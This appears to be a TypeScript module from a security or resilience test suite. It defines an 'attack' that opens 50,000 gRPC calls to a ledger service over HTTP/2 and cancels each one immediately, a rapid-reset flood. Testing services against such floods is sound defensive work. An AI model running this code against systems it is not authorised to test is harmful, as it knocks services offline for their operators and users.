// Begins calls and cancels them at once.

import { constants } from "node:http2";
import type { Attack } from "../attack.ts";
import { begin, closeSessions, flood, openSession } from "../calls.ts";

const CALLS = 50_000;
const AT_ONCE = 500;
const BEGUN = Buffer.from([0, 0, 0, 0, 2, 8, 1]);

export const attack: Attack = {
  title: "begins 50,000 calls and cancels each at once",
  run: async ({ grpcAddress }) => {
    const session = await openSession(grpcAddress);
    await flood(session, CALLS, AT_ONCE, async () => {
      const call = begin(session, "/ledger.v1.LedgerService/GetBalance");
      call?.end(BEGUN);
      await new Promise((resolve) => (call === undefined ? resolve(undefined) : call.once("close", resolve).close(constants.NGHTTP2_CANCEL)));
    });
    closeSessions([session]);
  },
};
